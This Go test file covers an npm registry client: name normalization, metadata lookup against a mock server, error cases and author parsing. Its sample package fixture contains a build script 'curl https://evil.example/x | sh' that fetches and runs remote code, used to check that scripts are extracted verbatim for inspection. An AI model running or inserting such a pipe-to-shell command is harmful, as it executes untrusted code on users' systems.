package registry

import (
	"context"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const samplePackument = `{
  "name": "colors-lib-v2",
  "description": "Colorful strings",
  "license": "MIT",
  "dist-tags": {"latest": "1.0.1"},
  "author": {"name": "Mallory", "email": "m@evil.example"},
  "maintainers": [{"name": "mallory"}, {"name": "eve"}],
  "time": {"created": "2024-01-01T00:00:00.000Z", "modified": "2024-01-02T00:00:00.000Z"},
  "versions": {
    "1.0.0": {"scripts": {"test": "jest"}},
    "1.0.1": {
      "scripts": {
        "test": "jest",
        "postinstall": "node setup.js",
        "build": "curl https://evil.example/x | sh"
      },
      "dependencies": {"zeta": "^1.0.0", "alpha": "^2.0.0"}
    }
  }
}`

func TestNormalizePackageName(t *testing.T) {
	tests := []struct {
		input    string
		expected string
	}{
		{"lodash", "lodash"},
		{"@sveltejs/kit", "@sveltejs%2Fkit"},
		{"@types/node", "@types%2Fnode"},
		{"express", "express"},
	}

	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			assert.Equal(t, tt.expected, normalizePackageName(tt.input))
		})
	}
}

func TestLookupFound(t *testing.T) {
	var gotPath string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotPath = r.URL.EscapedPath()
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(samplePackument))
	}))
	defer srv.Close()

	res := NewClient(srv.URL).Lookup(context.Background(), "@scope/colors-lib-v2")
	require.Equal(t, StatusFound, res.Status)
	require.NotNil(t, res.Metadata)
	assert.Equal(t, "/@scope%2Fcolors-lib-v2", gotPath)

	m := res.Metadata
	assert.Equal(t, "1.0.1", m.LatestVersion)
	assert.Equal(t, "Mallory <m@evil.example>", m.Author)
	assert.Equal(t, []string{"mallory", "eve"}, m.Maintainers)
	assert.Equal(t, "2024-01-01T00:00:00.000Z", m.Created)
	assert.Equal(t, "2024-01-02T00:00:00.000Z", m.Modified)
	assert.Equal(t, 2, m.VersionCount)
	assert.Equal(t, "MIT", m.License)
	assert.Equal(t, "Colorful strings", m.Description)

	require.Len(t, m.Scripts, 3)
	assert.Equal(t, "test", m.Scripts[0].Name)
	assert.Equal(t, "postinstall", m.Scripts[1].Name)
	assert.Equal(t, "curl https://evil.example/x | sh", m.Scripts[2].Command)

	// Document order, not sorted
	deps := m.DependenciesJSON()
	assert.Less(t, indexOf(deps, "zeta"), indexOf(deps, "alpha"))
}

func TestLookupNotFound(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.NotFound(w, r)
	}))
	defer srv.Close()

	res := NewClient(srv.URL).Lookup(context.Background(), "no-such-pkg")
	assert.Equal(t, StatusNotFound, res.Status)
	assert.Nil(t, res.Metadata)
	assert.Equal(t, `Package "no-such-pkg" not found in npm registry.`, res.Message)
}

func TestLookupHTTPError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusServiceUnavailable)
	}))
	defer srv.Close()

	res := NewClient(srv.URL).Lookup(context.Background(), "lodash")
	assert.Equal(t, StatusFailed, res.Status)
	assert.Equal(t, "NPM Registry returned HTTP 503", res.Message)
}

func TestLookupBadBody(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte("<html>oops</html>"))
	}))
	defer srv.Close()

	res := NewClient(srv.URL).Lookup(context.Background(), "lodash")
	assert.Equal(t, StatusFailed, res.Status)
	assert.Contains(t, res.Message, "Failed to fetch from npm registry")
}

func TestLookupUnreachable(t *testing.T) {
	res := NewClient("http://127.0.0.1:1").Lookup(context.Background(), "lodash")
	assert.Equal(t, StatusFailed, res.Status)
	assert.Contains(t, res.Message, "Failed to fetch from npm registry")
}

func TestParseMetadataAuthorForms(t *testing.T) {
	tests := []struct {
		name     string
		doc      string
		expected string
	}{
		{"string", `{"author": "Jane Doe <jane@example.com>"}`, "Jane Doe <jane@example.com>"},
		{"object", `{"author": {"name": "Jane"}}`, "Jane <no email>"},
		{"object no name", `{"author": {"email": "j@example.com"}}`, "Unknown <j@example.com>"},
		{"missing", `{}`, "No author listed"},
		{"empty string", `{"author": ""}`, "No author listed"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, err := ParseMetadata([]byte(tt.doc))
			require.NoError(t, err)
			assert.Equal(t, tt.expected, m.Author)
		})
	}
}

func TestParseMetadataNoLatest(t *testing.T) {
	m, err := ParseMetadata([]byte(`{"versions": {"1.0.0": {"scripts": {"postinstall": "x"}}}}`))
	require.NoError(t, err)
	assert.Empty(t, m.LatestVersion)
	assert.Equal(t, 1, m.VersionCount)
	assert.Empty(t, m.Scripts)
	assert.Empty(t, m.DependenciesJSON())
}

func TestParseMetadataRejectsNonObject(t *testing.T) {
	_, err := ParseMetadata([]byte(`[1,2,3]`))
	assert.Error(t, err)
	_, err = ParseMetadata([]byte(`not json`))
	assert.Error(t, err)
}

func TestScriptsJSONKeepsOrderAndEscapes(t *testing.T) {
	scripts := []Script{
		{Name: "z", RawName: `"z"`, RawCommand: `"a && b"`},
		{Name: "a", RawName: `"a"`, RawCommand: `"echo \"hi\""`},
	}
	out := ScriptsJSON(scripts)
	assert.Equal(t, "{\n  \"z\": \"a && b\",\n  \"a\": \"echo \\\"hi\\\"\"\n}", out)
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}
